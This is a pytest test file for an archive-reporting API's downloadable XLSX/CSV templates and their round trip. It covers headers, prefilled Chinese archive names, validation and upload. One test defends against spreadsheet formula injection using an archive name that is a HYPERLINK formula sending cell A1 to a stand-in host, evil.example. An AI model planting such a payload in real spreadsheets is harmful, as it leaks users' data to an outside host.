"""Templates to fill: the caller's archives, last year's figures beside the cells, instructions; and the round trip."""

import io
from datetime import date
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from tests.factories import create_archive, put_report
from tests.imports.sheets import upload, xlsx_rows

XLSX_URL = "/api/v1/imports/reports/template.xlsx"
CSV_URL = "/api/v1/imports/reports/template.csv"
LAST_YEAR = date.today().year - 1


@pytest.fixture(autouse=True)
def archives(client: TestClient) -> None:
    create_archive(client, "HN", name="湖南省档案馆", level="provincial")
    create_archive(client, "HN-CS", name="长沙市档案馆", parent_code="HN")
    create_archive(client, "HN-CS-LY", name="浏阳市档案馆", level="county", parent_code="HN-CS")


def letters(keys_row: tuple[object, ...]) -> dict[str, str]:
    """Column letter of each key in the template's second header row (上年 columns under '上年 key')."""
    return {str(key): get_column_letter(index) for index, key in enumerate(keys_row, start=1) if key}


class TestXlsxTemplate:
    def test_headers_and_every_archive_prefilled(self, client: TestClient) -> None:
        response = client.get(XLSX_URL)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
        rows = xlsx_rows(response.content)
        assert rows[0][:5] == ("档案馆代码", "档案馆名称", "年度", "上年馆藏案卷数（卷）", "馆藏案卷数（卷）")
        assert rows[1][:5] == ("archive_code", "archive_name", "year", "上年 holdings_volumes", "holdings_volumes")
        assert [row[:3] for row in rows[2:]] == [
            ("HN", "湖南省档案馆", LAST_YEAR),
            ("HN-CS", "长沙市档案馆", LAST_YEAR),
            ("HN-CS-LY", "浏阳市档案馆", LAST_YEAR),
        ]
        assert all(cell is None for row in rows[2:] for cell in row[3:])

    def test_last_years_figures_beside_the_empty_cells(self, client: TestClient) -> None:
        put_report(client, "HN-CS", 2022, holdings=350000, digitized=200000)
        rows = xlsx_rows(client.get(XLSX_URL, params={"year": 2023}).content)
        where = {key: index for index, key in enumerate(rows[1])}
        city = rows[3]
        assert city[where["上年 holdings_volumes"]] == 350000 and city[where["上年 digitized_volumes"]] == 200000
        assert city[where["holdings_volumes"]] is None and city[where["digitized_volumes"]] is None

    def test_figure_cells_take_whole_numbers_and_the_header_is_frozen(self, client: TestClient) -> None:
        sheet = load_workbook(io.BytesIO(client.get(XLSX_URL).content)).worksheets[0]
        assert sheet.freeze_panes == "D3"
        column = letters(next(sheet.iter_rows(min_row=2, max_row=2, values_only=True)))["holdings_volumes"]
        rules = [rule for rule in sheet.data_validations.dataValidation if f"{column}3" in str(rule.sqref)]
        assert [(rule.type, rule.operator, rule.formula1) for rule in rules] == [("whole", "greaterThanOrEqual", "0")]

    def test_chinese_file_name(self, client: TestClient) -> None:
        disposition = client.get(XLSX_URL, params={"year": 2023}).headers["content-disposition"]
        assert 'filename="lantai-reports-template-2023.xlsx"' in disposition
        assert unquote(disposition.split("filename*=UTF-8''")[1]) == "年报填报模板-2023.xlsx"

    def test_year_can_be_chosen(self, client: TestClient) -> None:
        rows = xlsx_rows(client.get(XLSX_URL, params={"year": 2021}).content)
        assert {row[2] for row in rows[2:]} == {2021}

    def test_instructions_sheet_in_chinese(self, client: TestClient) -> None:
        workbook = load_workbook(io.BytesIO(client.get(XLSX_URL, headers={"Accept-Language": "zh-CN"}).content))
        assert workbook.sheetnames == ["年报", "说明"]
        notes = {row[0]: row for row in workbook["说明"].iter_rows(values_only=True) if row[0]}
        assert notes["列名"][4] == "填写说明"
        assert (notes["holdings_volumes"][2], notes["holdings_volumes"][3]) == ("卷", "是")
        assert "不得超过馆藏案卷数" in notes["digitized_volumes"][4]

    def test_a_name_that_looks_like_a_formula_is_text(self, client: TestClient) -> None:
        create_archive(client, "EVIL", name='=HYPERLINK("http://evil.example/?x="&A1,"click")', parent_code="HN")
        sheet = load_workbook(io.BytesIO(client.get(XLSX_URL).content)).worksheets[0]
        cell = next(row[1] for row in sheet.iter_rows(min_row=3) if row[0].value == "EVIL")
        assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("http://evil.example/?x="&A1,"click")')
        lines = client.get(CSV_URL).content.decode("utf-8-sig").splitlines()
        assert any(line.startswith("EVIL,\"'=HYPERLINK(") for line in lines)


class TestCsvTemplate:
    def test_bom_two_header_rows_and_archives(self, client: TestClient) -> None:
        response = client.get(CSV_URL, params={"year": 2023})
        assert response.status_code == 200
        assert response.content.startswith("\ufeff".encode())
        assert "filename*=UTF-8''" in response.headers["content-disposition"]
        lines = response.content.decode("utf-8-sig").splitlines()
        assert lines[0].startswith("档案馆代码,档案馆名称,年度,上年馆藏案卷数（卷）,馆藏案卷数（卷）")
        assert lines[1].startswith("archive_code,archive_name,year,上年 holdings_volumes,holdings_volumes")
        assert lines[3].startswith("HN-CS,长沙市档案馆,2023,")


class TestRoundTrip:
    def test_xlsx_downloaded_filled_and_uploaded_is_stored(self, client: TestClient) -> None:
        workbook = load_workbook(io.BytesIO(client.get(XLSX_URL, params={"year": 2023}).content))
        sheet = workbook.worksheets[0]
        at = letters(next(sheet.iter_rows(min_row=2, max_row=2, values_only=True)))
        sheet[f"{at['holdings_volumes']}3"], sheet[f"{at['digitized_volumes']}3"] = 970000, 520000
        sheet[f"{at['note']}3"] = "省馆数据"
        sheet[f"{at['holdings_volumes']}4"], sheet[f"{at['digitized_volumes']}4"] = 350000, 280000
        sheet[f"{at['holdings_pages']}4"], sheet[f"{at['digitized_pages']}4"] = 9000000, 7000000
        filled = io.BytesIO()
        workbook.save(filled)
        response = upload(client, filled.getvalue(), filename="filled.xlsx")
        assert response.status_code == 200, response.text
        assert (response.json()["created"], response.json()["skipped"], response.json()["warnings"]) == (2, 1, [])
        city = client.get("/api/v1/archives/HN-CS/reports/2023").json()
        assert (city["digitized_volumes"], city["digitized_pages"]) == (280000, 7000000)
        assert client.get("/api/v1/archives/HN/reports/2023").json()["note"] == "省馆数据"
        assert client.get("/api/v1/archives/HN-CS-LY/reports").json()["total"] == 0

    def test_csv_downloaded_filled_and_uploaded_is_stored(self, client: TestClient) -> None:
        lines = client.get(CSV_URL, params={"year": 2023}).content.decode("utf-8-sig").splitlines()
        lines[4] = lines[4].replace("2023,,,,", "2023,,80000,,51000", 1)
        response = upload(client, "\n".join(lines).encode("utf-8-sig"))
        assert response.status_code == 200, response.text
        assert client.get("/api/v1/archives/HN-CS-LY/reports/2023").json()["digitized_volumes"] == 51000
